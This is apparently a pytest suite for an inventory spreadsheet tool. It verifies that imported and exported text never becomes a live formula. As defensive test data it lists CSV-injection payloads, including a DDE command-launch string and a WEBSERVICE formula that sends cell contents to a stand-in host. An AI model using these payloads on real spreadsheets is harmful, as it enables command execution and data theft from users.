"""Text that begins like a formula is text in every table, in the saved file and in every export.

What a spreadsheet takes for a formula, and how a CSV file is guarded: OWASP, CSV Injection.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import xlsxwriter
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.fuzz.shop_files import empty_book
from xlinventory.core.errors import InventoryError
from xlinventory.hosts.file import FileWorkbook
from xlinventory.imports.catalogue import LAYOUTS
from xlinventory.macros.frame import run_macro
from xlinventory.sheets import TABLES
from xlinventory.sheets.settings import SETTINGS
from xlinventory.tables import Kind, guarded
from xlinventory.workbook import Workbook

TODAY = 45000.0
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","click")',
    '=WEBSERVICE("http://x.example/"&A1)', "=DDE(\"cmd\";\"/C calc\";\"!\")", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(A1)", '"=1+1', "'=1+1",
    "{=1+1}", "=1+1\n=2+2",
)  # fmt: skip
TABLES_READ = ("Items", "Suppliers", "SupplierPrices", "PurchaseOrders", "Movements")
VALUES = {
    Kind.DATE: "2011-12-09",
    Kind.NUMBER: "1",
    Kind.WHOLE: "1",
    Kind.MONEY: "2.5",
    Kind.RATIO: "0.5",
    Kind.YES_NO: "yes",
}


def text_columns(table: str) -> list[str]:
    return [
        field.name
        for layout in LAYOUTS.values()
        if layout.table == table and layout.name in {table, "Sales"}
        for field in layout.fields
        if field.column.kind is Kind.TEXT and not field.column.choices and field.name in TABLES[table].names
    ]


def write_files(folder: Path) -> None:
    """A file for each table: a line for each formula, which stands in every text column."""
    for table in TABLES_READ:
        layout = LAYOUTS["Sales" if table == "Movements" else table]
        out = io.StringIO()
        writer = csv.writer(out)
        fields = [field for field in layout.fields if not field.column.formula]
        writer.writerow([field.name for field in fields])
        for formula in FORMULAS:
            writer.writerow([
                field.column.choices[0] if field.column.choices else VALUES.get(field.column.kind,
                formula) for field in fields
            ])  # fmt: skip
        (folder / f"{'sales' if table == 'Movements' else table.lower()}.csv").write_text(
            out.getvalue(), "utf-8"
        )


def file_book(path: Path) -> FileWorkbook:
    """A workbook file with every table and nothing in them but settings."""
    with xlsxwriter.Workbook(path) as book:
        for name, table in TABLES.items():
            sheet = book.add_worksheet(name)
            rows = (
                [[s.name, TODAY if s.name == "as_of" else s.value] for s in SETTINGS]
                if name == "Settings"
                else []
            )
            columns = [{"header": column} for column in table.names]
            sheet.add_table(0, 0, max(len(rows), 1), len(columns) - 1, {"name": name, "columns": columns})
            for number, row in enumerate(rows, 1):
                sheet.write_row(number, 0, row)
    return FileWorkbook.open(path)


def texts(book: Workbook, table: str, column: str) -> set[str]:
    return {cell for cell in book.read_table(table)[column] if cell is not None}


def formulas_in(path: Path) -> list[str]:
    """Every formula of the saved file, as its XML has it."""
    with zipfile.ZipFile(path) as archive:
        parts = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
    return [found for part in parts for found in re.findall(r"<f[ >/].*?</c>", part)]


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The file after a refresh, an undo, a refresh again and a save."""
    folder = tmp_path_factory.mktemp("csv")
    write_files(folder)
    path = folder.parent / "book.xlsx"
    book = file_book(path)
    run_macro(book, "refresh", folder=str(folder))
    run_macro(book, "undo")
    run_macro(book, "refresh", folder=str(folder))
    run_macro(book, "check")
    book.keep()
    return path


@pytest.mark.parametrize("table", TABLES_READ)
def test_every_text_column_holds_the_text_itself(saved: Path, table: str) -> None:
    book = FileWorkbook.open(saved)
    meant = {" ".join(text.split()) for text in FORMULAS}
    columns = text_columns(table)
    assert columns
    for column in columns:
        found = {" ".join(text.split()) for text in texts(book, table, column)}
        assert len(found & meant) >= len(meant) - 1, column  # one key is another's in capitals, or is quoted


def test_no_cell_of_the_file_is_a_formula(saved: Path) -> None:
    """Read as XML, and by another program."""
    assert formulas_in(saved) == []
    book = load_workbook(saved)
    kinds = {
        cell.data_type
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert kinds == {"s"}
    assert not book.defined_names
    assert book.sheetnames == list(TABLES)
    assert not any(sheet._hyperlinks for sheet in book)


def test_undo_puts_texts_back_as_texts(saved: Path, tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(saved.read_bytes())
    book = FileWorkbook.open(path)
    before = {name: book.read_table(name) for name in TABLES_READ}
    (tmp_path / "items.csv").write_text("sku,name\n=1+1,@SUM(A1)\n")
    run_macro(book, "refresh", folder=str(tmp_path))
    assert not book.read_table("Items").equals(before["Items"])
    run_macro(book, "undo")
    for name, rows in before.items():
        pd.testing.assert_frame_equal(book.read_table(name), rows)
    book.keep()
    assert formulas_in(path) == []


def exported(folder: Path) -> Path:
    """Orders whose every text is a formula, written to files."""
    book = empty_book()
    rows = [
        {"po": formula, "supplier": f"{formula} Ltd", "sku": formula, "order_date": TODAY,
        "promised_date": TODAY + 7,
         "quantity": 2.0, "unit_price": 1.5, "status": "open"}
        for formula in FORMULAS
    ]  # fmt: skip
    book.write_table(
        "PurchaseOrders", pd.DataFrame(rows, columns=TABLES["PurchaseOrders"].names, dtype=object)
    )
    items = pd.DataFrame(
        [{"sku": formula, "name": f"{formula} <b>x</b>"} for formula in FORMULAS],
        columns=TABLES["Items"].names,
        dtype=object,
    )
    book.write_table("Items", items)
    run_macro(book, "export", folder=str(folder))
    return folder


def test_no_cell_of_an_exported_order_is_a_formula(tmp_path: Path) -> None:
    """Every text stands in quotation marks, and what could begin a formula has an apostrophe before it."""
    files = sorted(exported(tmp_path / "orders").glob("*.csv"))
    assert len(files) == len(FORMULAS)
    for file in files:
        for row in csv.reader(io.StringIO(file.read_text("utf-8-sig"))):
            for cell in row:
                assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell) or re.fullmatch(r"-?[\d.]+", cell), cell


def test_an_exported_pdf_has_no_link_action_or_file(tmp_path: Path) -> None:
    for file in exported(tmp_path / "orders").glob("*.pdf"):
        reader = PdfReader(file)
        assert "<b>x</b>" in "".join(page.extract_text() for page in reader.pages).replace("\n", "")
        for word in (b"/URI", b"/Annots", b"/JavaScript", b"/OpenAction", b"/EmbeddedFile", b"/Launch"):
            assert word not in file.read_bytes()


@pytest.mark.parametrize("sign", "=+-@＝＋－＠﹦﹢﹣﹫−")
def test_no_sign_before_it_hides_a_formula(sign: str) -> None:
    for before in ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "\u2060", "'", '"'):
        assert guarded(f"{before}{sign}1+1").startswith("'")
        assert guarded(f"x;{before}{sign}1+1").startswith("x;'")


def test_a_message_repeats_text_as_text() -> None:
    """What a button says holds the text itself: it is shown, nobody calculates it."""
    book = empty_book()
    row = {"date": TODAY, "sku": "=1+1", "kind": "=cmd|' /C calc'!A0", "quantity": 1.0}
    book.write_table("Movements", pd.DataFrame([row], columns=TABLES["Movements"].names, dtype=object))
    with pytest.raises(InventoryError, match=re.escape("\"=cmd|' /C calc'!A0\"")):
        run_macro(book, "value")
